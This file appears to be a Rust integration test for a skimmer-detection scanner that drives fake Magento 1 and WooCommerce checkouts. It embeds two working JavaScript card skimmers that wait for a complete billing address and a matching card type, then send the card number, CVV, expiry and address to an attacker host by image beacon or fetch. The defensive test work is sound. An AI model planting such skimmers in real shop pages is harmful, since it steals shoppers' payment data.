//! Issue 16: the default shopper completes a checkout the way real skimmers expect — every
//! field (billing address, country and card type `select`s, expiry `select`s, the card
//! payment method, the terms box), each step's continue button and the pay button, pass after
//! pass — while no order request ever reaches the shop. Pages here are small Magento-1-style
//! and WooCommerce-style checkouts served by the test shop; each skimmer waits for what real
//! ones wait for (the click on "Place Order", a complete billing address, a card type that
//! matches the number).

use crate::util::{describe, findings_of, Workspace};
use skimwatch::model::{FindingKind, Interaction, ScanReport, Severity};
use skimwatch_testshop::{Origin, Resource, Shop};

const M1: &str = "/wake/m1/checkout";
const WOO: &str = "/wake/woo/checkout";

/// A Magento-1-style one-page checkout: billing → shipping method → payment (`ccsave` with
/// card type and expiry `select`s) → review (terms, `review.save()`). Each step posts to its
/// `/checkout/onepage/save…` URL and opens the next section when answered; `review.save()`
/// posts `saveOrder`. A log-out link, a back link and a cancel button must never be pressed.
fn magento1(shop: &Shop, skimmer: &str) -> String {
    let attacker = shop.base(Origin::Attacker);
    format!(
        r##"<!doctype html><html><head><meta charset="utf-8"><title>Checkout</title>
<style>.step {{ display: none; }} .step.active {{ display: block; }} #payment_form_ccsave {{ display: none; }}</style></head><body>
<a href="/customer/account/logout/">Log Out</a>
<ol id="checkoutSteps">
<li id="opc-billing" class="step active"><form id="co-billing-form">
  <label for="billing:firstname">First Name</label><input id="billing:firstname" name="billing[firstname]">
  <label for="billing:lastname">Last Name</label><input id="billing:lastname" name="billing[lastname]">
  <label for="billing:company">Company</label><input id="billing:company" name="billing[company]">
  <label for="billing:email">Email Address</label><input id="billing:email" name="billing[email]">
  <label for="billing:street1">Address</label><input id="billing:street1" name="billing[street][]">
  <label for="billing:city">City</label><input id="billing:city" name="billing[city]">
  <label for="billing:region_id">State/Province</label><select id="billing:region_id" name="billing[region_id]"><option value="">Please select region, state or province</option><option value="1">Dublin</option><option value="2">Cork</option></select>
  <label for="billing:postcode">Zip/Postal Code</label><input id="billing:postcode" name="billing[postcode]">
  <label for="billing:country_id">Country</label><select id="billing:country_id" name="billing[country_id]"><option value=""> </option><option value="FR">France</option><option value="DE">Germany</option><option value="IE">Ireland</option><option value="US">United States</option></select>
  <label for="billing:telephone">Telephone</label><input id="billing:telephone" name="billing[telephone]">
  <button type="button" class="button" title="Continue" onclick="billing.save()"><span>Continue</span></button>
</form></li>
<li id="opc-shipping_method" class="step"><form id="co-shipping-method-form">
  <input type="radio" name="shipping_method" value="flatrate_flatrate" id="s_method_flatrate_flatrate"><label for="s_method_flatrate_flatrate">Flat Rate</label>
  <input type="radio" name="shipping_method" value="freeshipping_freeshipping" id="s_method_freeshipping"><label for="s_method_freeshipping">Free</label>
  <a href="#" onclick="checkout.back(); return false;">Back</a>
  <button type="button" class="button" onclick="shippingMethod.save()"><span>Continue</span></button>
</form></li>
<li id="opc-payment" class="step"><form id="co-payment-form">
  <input type="radio" name="payment[method]" value="checkmo" id="p_method_checkmo" checked><label for="p_method_checkmo">Check / Money order</label>
  <input type="radio" name="payment[method]" value="ccsave" id="p_method_ccsave" onclick="payment.switchMethod('ccsave')"><label for="p_method_ccsave">Credit Card (saved)</label>
  <ul id="payment_form_ccsave">
    <li><label for="ccsave_cc_owner">Name on Card</label><input id="ccsave_cc_owner" name="payment[cc_owner]"></li>
    <li><label for="ccsave_cc_type">Credit Card Type</label><select id="ccsave_cc_type" name="payment[cc_type]"><option value="">--Please Select--</option><option value="AE">American Express</option><option value="VI">Visa</option><option value="MC">MasterCard</option><option value="DI">Discover</option><option value="JCB">JCB</option></select></li>
    <li><label for="ccsave_cc_number">Credit Card Number</label><input id="ccsave_cc_number" name="payment[cc_number]"></li>
    <li><label for="ccsave_expiration">Expiration Date</label><select id="ccsave_expiration" name="payment[cc_exp_month]"><option value="">Month</option><option value="1">01 - January</option><option value="2">02 - February</option><option value="3">03 - March</option><option value="4">04 - April</option><option value="5">05 - May</option><option value="6">06 - June</option><option value="7">07 - July</option><option value="8">08 - August</option><option value="9">09 - September</option><option value="10">10 - October</option><option value="11">11 - November</option><option value="12">12 - December</option></select>
      <select id="ccsave_expiration_yr" name="payment[cc_exp_year]"><option value="">Year</option>{years}</select></li>
    <li><label for="ccsave_cc_cid">Card Verification Number</label><input id="ccsave_cc_cid" name="payment[cc_cid]" maxlength="4"></li>
  </ul>
  <button type="button" class="button" onclick="payment.save()"><span>Continue</span></button>
</form></li>
<li id="opc-review" class="step">
  <input type="checkbox" id="agreement-1" name="agreement[1]" value="1"><label for="agreement-1">I agree to the Terms and Conditions</label>
  <button type="button" class="button btn-cancel" onclick="cancelOrder()">Cancel</button>
  <button type="submit" title="Place Order" class="button btn-checkout" onclick="review.save();"><span>Place Order</span></button>
</li>
</ol>
<script>
var ATTACKER = "{attacker}";
function $(id) {{ return document.getElementById(id); }}
function v(id) {{ var e = $(id); return e ? e.value : ""; }}
function post(url, form, next) {{
  var x = new XMLHttpRequest(); x.open("POST", url); x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
  x.onload = function () {{ if (next) {{ document.querySelector(".step.active").classList.remove("active"); $(next).classList.add("active"); }} }};
  x.send(form ? new URLSearchParams(new FormData($(form))).toString() : "");
}}
var billing = {{ save: function () {{ post("/checkout/onepage/saveBilling/", "co-billing-form", "opc-shipping_method"); }} }};
var shippingMethod = {{ save: function () {{ post("/checkout/onepage/saveShippingMethod/", "co-shipping-method-form", "opc-payment"); }} }};
var payment = {{ switchMethod: function (m) {{ $("payment_form_ccsave").style.display = m == "ccsave" ? "block" : "none"; }},
  save: function () {{ post("/checkout/onepage/savePayment/", "co-payment-form", "opc-review"); }} }};
var review = {{ save: function () {{ post("/checkout/onepage/saveOrder/", "co-payment-form", null); }} }};
var checkout = {{ back: function () {{ new Image().src = "/checkout/back-was-clicked"; }} }};
function cancelOrder() {{ new Image().src = "/checkout/cancel-was-clicked"; }}
{skimmer}
</script></body></html>"##,
        years = (0..8)
            .map(|i| {
                let y = time::OffsetDateTime::now_utc().year() + i;
                format!(r#"<option value="{y}">{y}</option>"#)
            })
            .collect::<String>()
    )
}

/// Sends the card and the billing address to the attacker when "Place Order" is clicked, but
/// only if the card type chosen matches the number, the expiry is chosen, and the billing
/// address is complete (as the Magento 1 samples check before sending).
const M1_PAY_BUTTON_SKIMMER: &str = r#"
function brandOf(n) { return /^4/.test(n) ? "VI" : /^(5[1-5]|2[2-7])/.test(n) ? "MC" : /^3[47]/.test(n) ? "AE" : /^(6011|65)/.test(n) ? "DI" : /^35/.test(n) ? "JCB" : ""; }
document.addEventListener("click", function (e) {
  var b = e.target.closest && e.target.closest("[onclick*='review.save']");
  if (!b) return;
  var n = v("ccsave_cc_number").replace(/\D/g, "");
  var billingDone = ["billing:firstname", "billing:lastname", "billing:email", "billing:street1", "billing:city", "billing:postcode", "billing:telephone", "billing:country_id", "billing:region_id"].every(function (i) { return v(i) !== ""; });
  if (!billingDone || brandOf(n) !== v("ccsave_cc_type") || !v("ccsave_expiration") || !v("ccsave_expiration_yr") || v("ccsave_cc_cid").length < 3 || !$("agreement-1").checked) return;
  var data = { n: n, t: v("ccsave_cc_type"), m: v("ccsave_expiration"), y: v("ccsave_expiration_yr"), c: v("ccsave_cc_cid"), h: v("ccsave_cc_owner"), a: v("billing:street1"), z: v("billing:country_id") };
  new Image().src = ATTACKER + "/m1.gif?d=" + encodeURIComponent(btoa(JSON.stringify(data)));
}, true);
"#;

/// A WooCommerce-style checkout: `billing_*` fields (changes post `?wc-ajax=update_order_review`),
/// cash on delivery or a card gateway whose `*-card-number`/`*-card-expiry`/`*-card-cvc`
/// fields show once it is chosen, the terms box and `#place_order`, whose form submit is
/// turned into a POST to `?wc-ajax=checkout` (the order).
fn woo(shop: &Shop, skimmer: &str) -> String {
    let attacker = shop.base(Origin::Attacker);
    format!(
        r#"<!doctype html><html><head><meta charset="utf-8"><title>Checkout</title>
<style>.payment_box {{ display: none; }}</style></head><body>
<a href="/my-account/customer-logout/">Log out</a>
<form name="checkout" method="post" class="checkout woocommerce-checkout" action="/wake/woo/checkout/">
  <p><label for="billing_first_name">First name</label><input id="billing_first_name" name="billing_first_name"></p>
  <p><label for="billing_last_name">Last name</label><input id="billing_last_name" name="billing_last_name"></p>
  <p><label for="billing_country">Country / Region</label><select id="billing_country" name="billing_country"><option value="">Select a country / region…</option><option value="AT">Austria</option><option value="IE">Ireland</option></select></p>
  <p><label for="billing_address_1">Street address</label><input id="billing_address_1" name="billing_address_1" placeholder="House number and street name"></p>
  <p><label for="billing_city">Town / City</label><input id="billing_city" name="billing_city"></p>
  <p><label for="billing_state">County</label><input id="billing_state" name="billing_state"></p>
  <p><label for="billing_postcode">Eircode</label><input id="billing_postcode" name="billing_postcode"></p>
  <p><label for="billing_phone">Phone</label><input id="billing_phone" name="billing_phone" type="tel"></p>
  <p><label for="billing_email">Email address</label><input id="billing_email" name="billing_email" type="email"></p>
  <ul class="wc_payment_methods">
    <li><input id="payment_method_cod" type="radio" name="payment_method" value="cod"><label for="payment_method_cod">Cash on delivery</label></li>
    <li><input id="payment_method_simplify" type="radio" name="payment_method" value="simplify_commerce"><label for="payment_method_simplify">Credit card</label>
      <div class="payment_box payment_method_simplify">
        <input id="simplify_commerce-card-number" name="simplify_commerce-card-number" placeholder="•••• •••• •••• ••••" autocomplete="cc-number">
        <input id="simplify_commerce-card-expiry" name="simplify_commerce-card-expiry" placeholder="MM / YY" autocomplete="cc-exp">
        <input id="simplify_commerce-card-cvc" name="simplify_commerce-card-cvc" placeholder="CVC" autocomplete="off" maxlength="4">
      </div></li>
  </ul>
  <p><input type="checkbox" name="terms" id="terms"><label for="terms">I have read and agree to the website terms and conditions</label></p>
  <button type="submit" class="button alt" name="woocommerce_checkout_place_order" id="place_order" value="Place order">Place order</button>
</form>
<script>
var ATTACKER = "{attacker}";
function $(id) {{ return document.getElementById(id); }}
function v(id) {{ var e = $(id); return e ? e.value : ""; }}
document.querySelectorAll("input[name=payment_method]").forEach(function (r) {{ r.addEventListener("change", function () {{
  document.querySelectorAll(".payment_box").forEach(function (b) {{ b.style.display = "none"; }});
  var box = document.querySelector(".payment_box.payment_method_simplify"); if (r.checked && r.value == "simplify_commerce") box.style.display = "block";
}}); }});
document.querySelectorAll("[name^=billing_]").forEach(function (i) {{ i.addEventListener("change", function () {{
  fetch("/wake/woo/?wc-ajax=update_order_review", {{ method: "POST", body: new FormData(document.forms.checkout) }});
}}); }});
document.forms.checkout.addEventListener("submit", function (e) {{
  e.preventDefault();
  fetch("/wake/woo/?wc-ajax=checkout", {{ method: "POST", body: new FormData(document.forms.checkout) }});
}});
{skimmer}
</script></body></html>"#
    )
}

/// Sends when the form is submitted and every billing field is filled.
const WOO_SUBMIT_SKIMMER: &str = r#"
document.forms.checkout.addEventListener("submit", function () {
  var f = new FormData(document.forms.checkout), d = {}, complete = true;
  f.forEach(function (value, key) { d[key] = value; if (/^billing_/.test(key) && !value) complete = false; });
  if (!complete || !d["simplify_commerce-card-number"] || !$("terms").checked) return;
  fetch(ATTACKER + "/woo", { method: "POST", mode: "no-cors", body: JSON.stringify(d) });
}, true);
"#;

/// Serves the Magento 1 (`m1`) or WooCommerce checkout with `skimmer` and the answers of its
/// step and order URLs.
fn serve(shop: &Shop, m1: bool, skimmer: &str) -> String {
    for path in [
        "/checkout/onepage/saveBilling/",
        "/checkout/onepage/saveShippingMethod/",
        "/checkout/onepage/savePayment/",
        "/checkout/onepage/saveOrder/",
        "/wake/woo/",
    ] {
        shop.set_resource(Origin::Shop, path, Resource::json("{}"));
    }
    let (path, body) = if m1 { (M1, magento1(shop, skimmer)) } else { (WOO, woo(shop, skimmer)) };
    shop.set_resource(Origin::Shop, path, Resource::html(body));
    shop.url(Origin::Shop, path)
}

/// A workspace with the checkout, scanned with the default interaction.
fn workspace(m1: bool, skimmer: &str) -> Workspace {
    let shop = Shop::start_in_background().expect("start the test shop");
    let url = serve(&shop, m1, skimmer);
    Workspace::with_page_config(shop, "checkout", &url, "settle = \"1s\"")
}

/// Requests that would have placed an order, or that a destructive or leaving click made.
fn forbidden_requests(shop: &Shop) -> Vec<String> {
    shop.requests_to(Origin::Shop)
        .into_iter()
        .filter(|r| {
            r.path.contains("saveOrder")
                || r.path.contains("wc-ajax=checkout")
                || r.path.contains("logout")
                || r.path.contains("was-clicked")
                || (r.method == "POST" && r.path_only().starts_with("/wake/woo/checkout"))
        })
        .map(|r| format!("{} {}", r.method, r.path))
        .collect()
}

fn interaction(report: &ScanReport) -> &Interaction {
    report.pages[0].interaction.as_ref().expect("interaction reported")
}

fn assert_exfiltration_to_attacker(ws: &Workspace, report: &ScanReport) {
    let attacker = ws.shop.host(Origin::Attacker);
    let f = findings_of(report, FindingKind::CardExfiltration)
        .into_iter()
        .find(|f| f.destination.as_ref().is_some_and(|d| d.host == attacker))
        .unwrap_or_else(|| {
            panic!("no card_exfiltration to {attacker}:\n{}\n{:#?}", describe(report), report.pages[0].interaction)
        });
    assert_eq!(f.severity, Severity::Critical);
}

#[test]
fn magento1_checkout_is_completed_step_by_step_and_the_place_order_skimmer_wakes() {
    let ws = workspace(true, M1_PAY_BUTTON_SKIMMER);
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1, "{}", describe(&report));
    assert_exfiltration_to_attacker(&ws, &report);
    let i = interaction(&report);
    assert_eq!(i.mode.as_str(), "complete", "complete is the default");
    // Every step in order, the pay button last; never Back, Cancel or Log Out.
    let pressed = i.buttons_pressed.join("\n");
    let order = ["billing.save()", "shippingMethod.save()", "payment.save()", "review.save()"];
    let at: Vec<usize> =
        order.iter().map(|b| pressed.find(b).unwrap_or_else(|| panic!("{b} not pressed: {i:#?}"))).collect();
    assert!(at.windows(2).all(|w| w[0] < w[1]), "steps out of order: {pressed}");
    assert!(!pressed.to_lowercase().contains("cancel") && !pressed.contains("back"), "{pressed}");
    assert!(i.submitted && i.passes >= 4, "{i:#?}");
    for field in [
        "main|#billing\\:firstname",
        "main|#billing\\:country_id",
        "main|#ccsave_cc_type",
        "main|#ccsave_expiration_yr",
        "main|#p_method_ccsave",
        "main|#agreement-1",
        "main|#s_method_flatrate_flatrate",
    ] {
        assert!(i.fields_filled.iter().any(|f| f == field), "{field} not filled: {i:#?}");
    }
    assert!(i.fields_typed.iter().any(|f| f == "main|#ccsave_cc_number"), "{i:#?}");
    // The order request was failed in the browser; the step requests went through.
    assert!(i.blocked.iter().any(|b| b.contains("/checkout/onepage/saveOrder/")), "{i:#?}");
    let got: Vec<String> = ws.shop.requests_to(Origin::Shop).into_iter().map(|r| r.path).collect();
    for step in ["saveBilling", "saveShippingMethod", "savePayment"] {
        assert!(got.iter().any(|p| p.contains(step)), "{step} did not reach the shop: {got:?}");
    }
    assert_eq!(forbidden_requests(&ws.shop), Vec::<String>::new());
    // The attacker got a card type matching the number and the persona's country.
    let stolen = ws.shop.requests_to(Origin::Attacker);
    assert!(stolen.iter().any(|r| r.path.starts_with("/m1.gif?d=")), "{stolen:?}");
}

#[test]
fn woocommerce_checkout_is_completed_and_the_submit_skimmer_wakes() {
    let ws = workspace(false, WOO_SUBMIT_SKIMMER);
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1, "{}", describe(&report));
    assert_exfiltration_to_attacker(&ws, &report);
    let i = interaction(&report);
    assert!(i.buttons_pressed.iter().any(|b| b.starts_with("#place_order")), "{i:#?}");
    for field in [
        "main|#billing_country",
        "main|#billing_state",
        "main|#payment_method_simplify",
        "main|#terms",
        "main|#simplify_commerce-card-expiry",
    ] {
        assert!(i.fields_filled.iter().any(|f| f == field), "{field} not filled: {i:#?}");
    }
    assert!(i.blocked.iter().any(|b| b.contains("wc-ajax=checkout")), "{i:#?}");
    assert!(
        ws.shop.requests_to(Origin::Shop).iter().any(|r| r.path.contains("wc-ajax=update_order_review")),
        "the step request is let through"
    );
    assert_eq!(forbidden_requests(&ws.shop), Vec::<String>::new());
}

#[test]
fn clean_checkouts_completed_again_give_no_finding_and_place_no_order() {
    for m1 in [true, false] {
        let ws = workspace(m1, "");
        ws.approved_baseline();
        let (code, report) = ws.scan(&[]);
        assert_eq!(code, 0, "m1 = {m1}: {}", describe(&report));
        assert!(interaction(&report).submitted, "m1 = {m1}: {:#?}", interaction(&report));
        assert_eq!(forbidden_requests(&ws.shop), Vec::<String>::new(), "m1 = {m1}");
    }
}
